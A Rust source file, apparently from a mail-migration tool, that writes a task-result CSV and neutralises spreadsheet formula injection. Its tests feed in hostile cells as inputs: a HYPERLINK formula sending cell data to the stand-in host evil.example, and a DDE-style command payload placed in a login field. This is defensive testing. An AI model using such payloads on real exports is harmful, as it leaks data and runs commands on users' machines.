//! The result CSV of a project: one row per task with its line in the project file,
//! both accounts, the task ID, the final state and the counters. Holds no secret.
//! A cell a spreadsheet would take for a formula (it starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return: a login or a server's error text can) gets a leading `'`.

/// One task's outcome, as the result CSV shows it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ResultRow {
    /// The row's line in the project file.
    pub line: usize,
    /// `login@host:port` of the source.
    pub source: String,
    /// `login@host:port` of the destination.
    pub destination: String,
    pub task_id: String,
    pub state: String,
    pub copied: u64,
    pub skipped: u64,
    pub failed: u64,
    pub bytes: u64,
    /// Why the task failed; empty when it did not.
    pub error: String,
    /// What the user can change about `error` (not a CSV column: each surface words it).
    pub remedy: Option<mailshift_net::Remedy>,
}

/// The result CSV's columns, in order.
pub const RESULT_COLUMNS: [&str; 10] = [
    "line",
    "source",
    "destination",
    "task_id",
    "state",
    "copied",
    "skipped",
    "failed",
    "bytes",
    "error",
];

/// Header and one line per row, `,`-separated, `\n`-terminated, quoted where needed
/// (commas, quotes, line breaks, surrounding spaces).
pub fn results_csv(rows: &[ResultRow]) -> String {
    let mut out = String::new();
    push_record(&mut out, RESULT_COLUMNS.iter().map(|c| c.to_string()));
    for r in rows {
        push_record(
            &mut out,
            [
                r.line.to_string(),
                r.source.clone(),
                r.destination.clone(),
                r.task_id.clone(),
                r.state.clone(),
                r.copied.to_string(),
                r.skipped.to_string(),
                r.failed.to_string(),
                r.bytes.to_string(),
                r.error.clone(),
            ],
        );
    }
    out
}

fn push_record(out: &mut String, cells: impl IntoIterator<Item = String>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        push_cell(out, &neutralise(cell));
    }
    out.push('\n');
}

/// `'` before a cell a spreadsheet would evaluate (formula injection, CWE-1236).
fn neutralise(cell: String) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell
    }
}

fn push_cell(out: &mut String, cell: &str) {
    let needs_quotes = cell.contains([',', ';', '"', '\n', '\r'])
        || cell.starts_with(char::is_whitespace)
        || cell.ends_with(char::is_whitespace);
    if needs_quotes {
        out.push('"');
        out.push_str(&cell.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(cell);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(error: &str) -> ResultRow {
        ResultRow {
            line: 7,
            source: "john@imap.old.example:993".into(),
            destination: "john@ex5.mail.example:993".into(),
            task_id: "MS-ABCDEFGHJK".into(),
            state: "failed".into(),
            copied: 120,
            skipped: 3,
            failed: 1,
            bytes: 4_096,
            error: error.into(),
            remedy: None,
        }
    }

    #[test]
    fn header_then_one_line_per_row() {
        let out = results_csv(&[row(""), row("")]);
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 3);
        assert_eq!(
            lines[0],
            "line,source,destination,task_id,state,copied,skipped,failed,bytes,error"
        );
        assert_eq!(
            lines[1],
            "7,john@imap.old.example:993,john@ex5.mail.example:993,MS-ABCDEFGHJK,failed,120,3,1,4096,"
        );
        assert!(out.ends_with('\n'));
        assert_eq!(results_csv(&[]).lines().count(), 1);
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_neutralised() {
        let mut r = row("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        r.source = "+1-555@old.example:993".into();
        r.destination = "@SUM(1+1)*cmd|' /C calc'!A0@new.example:993".into();
        let mut t = row("-2+3");
        t.source = "\tx@old.example:993".into();
        t.destination = "\rx@new.example:993".into();
        let out = results_csv(&[r, t]);
        let mut reader = ::csv::Reader::from_reader(out.as_bytes());
        let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        for rec in &records {
            for cell in rec.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?} in {out}"
                );
            }
        }
        assert_eq!(
            &records[0][9],
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
        );
        assert_eq!(&records[0][1], "'+1-555@old.example:993");
        assert_eq!(&records[1][9], "'-2+3");
        assert_eq!(&records[1][1], "'\tx@old.example:993");
        // Ordinary cells are untouched.
        assert_eq!(&records[0][3], "MS-ABCDEFGHJK");
        assert_eq!(&records[0][0], "7");
    }

    #[test]
    fn awkward_cells_are_quoted_and_read_back_intact() {
        let nasty = "login refused, \"NO [AUTHENTICATIONFAILED]\"\nsecond line";
        let out = results_csv(&[row(nasty), row(" padded")]);
        let mut reader = ::csv::Reader::from_reader(out.as_bytes());
        let records: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 2);
        assert_eq!(&records[0][9], nasty);
        assert_eq!(&records[1][9], " padded");
        assert_eq!(&records[0][3], "MS-ABCDEFGHJK");
        assert_eq!(records[0].len(), RESULT_COLUMNS.len());
    }
}
